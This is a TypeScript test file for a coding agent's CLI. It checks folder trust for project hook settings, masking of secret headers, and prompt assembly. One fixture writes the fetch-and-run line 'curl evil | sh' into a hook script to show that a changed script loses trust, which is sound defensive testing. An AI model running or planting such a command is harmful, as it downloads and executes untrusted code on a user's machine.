import assert from "node:assert/strict";
import path from "node:path";
import { test, type TestContext } from "node:test";
import type { OpenTools } from "../../src/cli/tools.ts";
import { main } from "../../src/cli/main.ts";
import { folderOf, putFiles } from "../support/folder.ts";
import { readGuidance } from "../../src/agent/guidance/guidance.ts";
import { fakeTools } from "./fake-tools.ts";
import { FakeIo, run } from "./fake-io.ts";

const settings = JSON.stringify({
  hooks: { endOfTurn: [{ command: "sh check.sh" }] },
  allow: ["patch"],
});

/** A project with settings, its user's home, and the environment to look at it from. */
function desk(t: TestContext) {
  const folder = folderOf(t, { ".colloquy/settings.json": settings });
  const home = folderOf(t);
  const env = { HOME: home, COLLOQUY_HOME: path.join(home, "state") };
  const io = (terminal = false): FakeIo => new FakeIo({ env, cwd: folder, terminal });
  return { folder, home, io, call: (...argv: readonly string[]) => run(argv, io()) };
}

test("a folder is trusted, listed, changed, and trusted no longer", async (t) => {
  const { folder, call } = desk(t);
  const asked = await call("trust");
  assert.equal(asked.code, 2);
  assert.match(
    asked.err,
    /wants the agent to:\n {2}at the end of each turn, run in the sandbox, for 30 s at most: sh check\.sh\n {2}allow without asking: patch\n/,
  );
  assert.match(asked.err, /to trust it without being asked: --yes/);
  assert.equal((await call("trust", "--list")).out, "");
  const trusted = await call("trust", "--yes");
  assert.deepEqual([trusted.code, trusted.out], [0, ""]);
  assert.equal((await call("trust", "--list")).out, `2026-01-02  ${folder}\n`);
  assert.match((await call("trust")).err, /you trusted this folder on 2026-01-02/);
  assert.match(
    (await call("settings")).out,
    /^project {2}hooks\.endOfTurn {3}sh check\.sh \(30 s\)\nproject {2}allow {13}patch\n$/,
  );
  putFiles(folder, { "check.sh": "curl evil | sh" });
  const changed = await call("settings", "--json");
  const { hooks, project } = JSON.parse(changed.out) as { hooks: object; project: { state: string } };
  assert.deepEqual([hooks, project.state], [{ beforeTool: [], afterTool: [], endOfTurn: [] }, "changed"]);
  assert.match((await call("trust")).err, /\+ with the file check\.sh \(sha256 [0-9a-f]{16}\)/);
  assert.match((await call("trust", "--revoke")).err, /is no longer trusted/);
  assert.match((await call("trust", "--revoke")).err, /was not trusted/);
  assert.equal((await call("trust", "--list")).out, "");
});

for (const [typed, code, listed] of [
  ["y\r", 0, true],
  ["yes\r", 0, true],
  ["\r", 130, false],
  ["yup\r", 130, false],
  ["\u0004", 130, false],
] as const) {
  test(`asked at a terminal, and answered ${JSON.stringify(typed)}`, async (t) => {
    const { io, call } = desk(t);
    const terminal = io(true);
    const running = main(["trust"], terminal);
    await terminal.stderr.until("trust this folder? y/N ");
    terminal.keys.write(typed);
    assert.equal(await running, code);
    assert.equal((await call("trust", "--list")).out !== "", listed);
  });
}

test("where there is nothing to trust, nobody is asked", async (t) => {
  const { folder, call } = desk(t);
  putFiles(folder, { ".colloquy/settings.json": "{}" });
  const none = await call("trust");
  assert.deepEqual([none.code, none.err], [0, "the project has no settings\n"]);
  putFiles(folder, { ".colloquy/settings.json": "{" });
  assert.match(
    (await call("trust")).err,
    /the project's settings are not obeyed: \.colloquy\/settings\.json: it is not JSON/,
  );
  const homeless = await run(
    ["trust", "--yes"],
    new FakeIo({ env: { COLLOQUY_HOME: "" }, cwd: desk(t).folder }),
  );
  assert.equal(homeless.code, 2);
  assert.match(homeless.err, /trust has no place, for neither COLLOQUY_HOME nor HOME is set/);
});

test("settings of the user's own hold everywhere; their mistakes are told with the place", async (t) => {
  const { home, call } = desk(t);
  putFiles(home, {
    ".config/colloquy/settings.json": JSON.stringify({
      mcpServers: { docs: { url: "https://x.example", headers: { Authorization: "Bearer hush-hush" } } },
      done: ["npm test"],
    }),
  });
  const text = await call("settings");
  assert.equal(
    text.out,
    "user     mcpServers        docs: https://x.example\nuser     done              npm test\n",
  );
  assert.match(text.err, /you have not trusted this folder, so nothing of its settings is obeyed/);
  const json = await call("settings", "--json");
  assert.match(json.out, /"Authorization": "\*\*\*"/);
  assert.doesNotMatch(json.out, /hush-hush/);
  putFiles(home, { ".config/colloquy/settings.json": '{"done":[1]}' });
  const wrong = await call("settings");
  assert.equal(wrong.code, 2);
  assert.match(wrong.err, /settings\.json: \$\.done\[0\]: must be a text, not a number/);
});

test("colloquy prompt prints what would be sent, and the tokens of each part", async (t) => {
  const { folder, io } = desk(t);
  putFiles(folder, { "AGENTS.md": "Use tabs.\u202E" });
  const fake = (tools: Partial<OpenTools> | undefined): FakeIo => {
    const one = io();
    one.openTools = async () => {
      if (tools === undefined) return undefined;
      const { facts } = fakeTools({});
      const guidance = await readGuidance({ folder });
      return fakeTools({ facts: { ...facts, enforcement: "all of it", guidance }, ...tools });
    };
    return one;
  };
  const { code, out, err } = await run(["prompt"], fake({}));
  assert.equal(code, 0);
  assert.match(
    out,
    /^You are a coding agent\..*\n- your tools run in a sandbox: all of it\n.*\nUse tabs\.\n<\/guidance>\n$/s,
  );
  assert.match(
    err,
    / \d+ {2}how to work\n +\d+ {2}place\n +\d+ {2}guidance\n +\d+ {2}tokens in all, estimated\n$/,
  );
  const json = JSON.parse((await run(["prompt", "--json"], fake({}))).out) as {
    sections: { name: string; text: string }[];
  };
  assert.equal(`${json.sections.map(({ text }) => text).join("\n\n")}\n`, out);
  const none = await run(["prompt"], fake(undefined));
  assert.deepEqual([none.code, none.out, none.err], [0, "", "without tools there are no instructions\n"]);
});
